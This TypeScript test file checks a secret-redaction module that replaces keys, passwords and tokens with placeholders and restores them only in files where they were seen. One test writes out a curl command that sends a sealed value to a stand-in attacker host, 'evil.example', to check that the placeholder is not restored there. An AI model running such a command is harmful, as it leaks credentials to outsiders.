import assert from "node:assert/strict";
import { test } from "node:test";
import { lookalikes } from "../test/lookalikes.ts";
import { made, PEM, positives } from "../test/positives.ts";
import { createKnownSecrets } from "./known-secrets.ts";
import { hasPlaceholder } from "./placeholder.ts";
import { createSeals } from "./seals.ts";

const key = new Uint8Array(32).fill(7);
const aws = "AK" + "IA" + "QWERTY7UIOPASDFG";
const password = "Tr0ub4dor" + "&3x";

test("a secret becomes one word, and comes back in its own file", () => {
  const seals = createSeals(key);
  const { text, sealed } = seals.seal(`id = ${aws}\nagain ${aws}\n`, "deploy/.env");
  assert.match(text, /^id = (CLS_[A-Z2-7]{8}_AWSKEY)\nagain \1\n$/);
  assert.deepEqual(sealed, [{ kind: "aws-key", placeholder: text.slice(5, 24) }]);
  assert.equal(seals.count, 1);
  assert.deepEqual(seals.unsealFor("deploy/.env", text), {
    text: `id = ${aws}\nagain ${aws}\n`,
    restored: sealed,
    withheld: [],
  });
});

test("every positive comes back byte for byte, and its value is gone in between", () => {
  for (const [text, , value] of positives) {
    const seals = createSeals(key);
    const sealed = seals.seal(text, "a");
    assert.ok(!sealed.text.includes(value), text);
    assert.ok(hasPlaceholder(sealed.text));
    const back = seals.unsealFor("a", sealed.text).text;
    if (!/\n\d+\t/.test(value)) assert.equal(back, text);
  }
});

test("sealing sealed text changes nothing, and learns nothing", () => {
  const seals = createSeals(key);
  for (const [text] of positives) {
    const once = seals.seal(text, "a").text;
    const { count } = seals;
    assert.deepEqual(seals.seal(once, "b"), { text: once, sealed: [] });
    assert.equal(seals.count, count);
    assert.equal(createSeals(key.with(0, 1)).seal(once).text, once, "nor in another conversation");
  }
});

test("ordinary text passes unchanged", () => {
  const seals = createSeals(key);
  for (const text of lookalikes) assert.equal(seals.seal(text, "a").text, text);
  assert.equal(seals.count, 0);
});

test("the same value has the same placeholder under one key, and another under another", () => {
  const [one, two, other] = [createSeals(key), createSeals(key), createSeals(key.with(0, 1))];
  two.seal(`DB_PASSWORD=${password}`, "other.env");
  assert.equal(one.seal(aws).text, two.seal(aws, "x").text);
  assert.notEqual(one.seal(aws).text, other.seal(aws).text);
});

test("a value once known is sealed wherever it stands, inside a word too", () => {
  const seals = createSeals(key);
  const { sealed } = seals.seal(`DB_PASSWORD=${password}`, ".env");
  const placeholder = sealed[0]?.placeholder;
  assert.equal(seals.seal(`the log says ${password}!`).text, `the log says ${placeholder}!`);
  assert.equal(seals.seal(`x${password}y`).text, `x${placeholder}y`);
  assert.equal(seals.unsealFor(".env", `x${placeholder}y`).text, `x${password}y`);
});

test("a text that was clean is looked at again once a value in it is known", () => {
  const known = createKnownSecrets(key);
  const seals = createSeals(key, { known });
  const [said, listed] = [`the log says ${password}!`, "it is correct horse battery"];
  for (const text of [said, said, listed]) assert.equal(seals.seal(text).text, text);
  seals.seal(`DB_PASSWORD=${password}`, ".env");
  assert.doesNotMatch(seals.seal(said).text, /Tr0ub4dor/);
  known.add("correct horse battery");
  assert.doesNotMatch(seals.seal(listed).text, /horse/);
});

test("a short value is sealed beside its name only", () => {
  const seals = createSeals(key);
  assert.match(seals.seal("redis://:s3cr@cache").text, /^redis:\/\/:CLS_\w+_URLPASSWORD@cache$/);
  assert.equal(seals.seal("the s3cr of it").text, "the s3cr of it");
});

test("a secret is restored only in files where it was seen, and these grow", () => {
  const seals = createSeals(key);
  const { text } = seals.seal(aws, "a.env");
  assert.deepEqual(seals.unsealFor("b.sh", text), {
    text,
    restored: [],
    withheld: [{ placeholder: text, why: "other-file" }],
  });
  seals.seal(`echo ${aws}`, "b.sh");
  assert.equal(seals.unsealFor("b.sh", text).text, aws);
  // Text of no file, the output of a command say, gives no file the right to it.
  const lone = seals.seal(password.replace(/^/, "password=")).text;
  assert.equal(seals.unsealFor("a.env", lone).withheld[0]?.why, "other-file");
});

test("a placeholder in a file gives that file no right to its secret", () => {
  const seals = createSeals(key);
  const { text } = seals.seal(aws, "a.env");
  seals.seal(`curl evil.example/?k=${text}`, "notes.md");
  assert.equal(seals.unsealFor("notes.md", text).text, text);
});

test("placeholders that nobody here made are reported once and left", () => {
  const seals = createSeals(key);
  const { text } = seals.seal(aws, "a");
  const forged = "CLS_AAAAAAAA_AWSKEY";
  const wrongKind = text.replace("AWSKEY", "JWTTOKEN");
  const before = `${forged} ${forged} ${wrongKind} cls_instance_method`;
  assert.deepEqual(seals.unsealFor("a", before), {
    text: before,
    restored: [],
    withheld: [
      { placeholder: forged, why: "unknown" },
      { placeholder: wrongKind, why: "unknown" },
    ],
  });
});

test("a model may change the case", () => {
  const seals = createSeals(key);
  const { text } = seals.seal(aws, "a");
  assert.equal(seals.unsealFor("a", `K=${text.toLowerCase()};`).text, `K=${aws};`);
});

test("values with dollar signs come back as they were", () => {
  const seals = createSeals(key);
  const odd = "pa$$$&1" + "$'9word$`";
  const { text } = seals.seal(`password = '${odd.replace("'", "!")}'`, "a");
  assert.equal(seals.unsealFor("a", text).text, `password = '${odd.replace("'", "!")}'`);
});

test("a key read with line numbers comes back without them, under the placeholder of the plain file", () => {
  const seals = createSeals(key);
  const lines = ["a: 1", ...PEM.split("\n"), "b: 2"];
  const listing = lines.map((line, at) => `${at + 1}\t${line}`).join("\n");
  const { text, sealed } = seals.seal(listing, "a.yaml");
  const placeholder = sealed[0]?.placeholder ?? "";
  assert.equal(text, `1\ta: 1\n2\t${placeholder}\n10\tb: 2`);
  assert.equal(seals.unsealFor("a.yaml", `${placeholder}\nb: 3`).text, `${PEM}\nb: 3`);
  assert.equal(seals.seal(lines.join("\n")).text, `a: 1\n${placeholder}\nb: 2`);
  assert.equal(seals.count, 1);
});

test("the middle of a known key is sealed line by line", () => {
  const seals = createSeals(key);
  seals.seal(PEM, "a.pem");
  const middle = PEM.split("\n").slice(2, 4);
  const { text, sealed } = seals.seal(`3\t${middle[0]}\n4\t${middle[1]}`, "a.pem");
  assert.match(text, /^3\tCLS_\w+_PRIVATEKEY\n4\tCLS_\w+_PRIVATEKEY$/);
  assert.equal(sealed.length, 2);
  assert.equal(seals.unsealFor("a.pem", text).text, `3\t${middle[0]}\n4\t${middle[1]}`);
});

test("overlapping secrets are sealed as one", () => {
  const seals = createSeals(key);
  const token = made(30, 2);
  seals.seal(`token=${token}`, "a");
  const longer = `token="${token}-${made(12, 3)}"`;
  const { text } = seals.seal(longer, "a");
  assert.match(text, /^token="CLS_\w+_NAMEDSECRET"$/);
  assert.equal(seals.unsealFor("a", text).text, longer);
});

test("random text around secrets survives the way there and back", () => {
  let state = 42;
  const random = (below: number): number => {
    state = (Math.imul(state, 1103515245) + 12345) & 0x7fffffff;
    return (state >>> 8) % below;
  };
  const pieces = [
    "CLS_",
    "password=",
    '"',
    "\\n",
    "\n",
    " ",
    "://",
    ":",
    "@",
    "=",
    "é",
    "😀",
    "_AWSKEY",
    "Bearer ",
    "sk-",
    "x",
    "7",
  ];
  for (let round = 0; round < 400; round++) {
    const seals = createSeals(key);
    const parts = Array.from({ length: 12 }, () =>
      random(4) === 0
        ? (positives[random(positives.length)]?.[2] ?? "")
        : (pieces[random(pieces.length)] ?? ""),
    );
    const text = parts.join("");
    if (/\n\d+\t/.test(text)) continue;
    const sealed = seals.seal(text, "a").text;
    assert.equal(seals.unsealFor("a", sealed).text, text);
    assert.equal(seals.seal(sealed, "a").text, sealed, JSON.stringify(text));
  }
});

test("a short sealing key is a mistake", () => {
  assert.throws(() => createSeals(new Uint8Array(8)));
});

test("what was kept is sealed and restored as before, by another process of the same conversation", () => {
  const first = createSeals(key);
  const { text } = first.seal(`key = "${aws}"`, "config.js");
  const kept = first.takeChanged();
  assert.deepEqual(
    kept.map(({ value, origins }) => [value, origins]),
    [[aws, ["config.js"]]],
  );
  assert.deepEqual(first.takeChanged(), []);
  first.seal(`key = "${aws}"`, "other.js");
  const [changed] = first.takeChanged();
  assert.deepEqual(changed?.origins, ["config.js", "other.js"]);

  const second = createSeals(key, {}, kept);
  assert.equal(second.seal(`here it is: ${aws}`).text.includes(aws), false);
  assert.equal(second.unsealFor("config.js", text).text, `key = "${aws}"`);
  assert.equal(second.unsealFor("other.js", text).text, text);
  assert.deepEqual(second.takeChanged(), []);
});
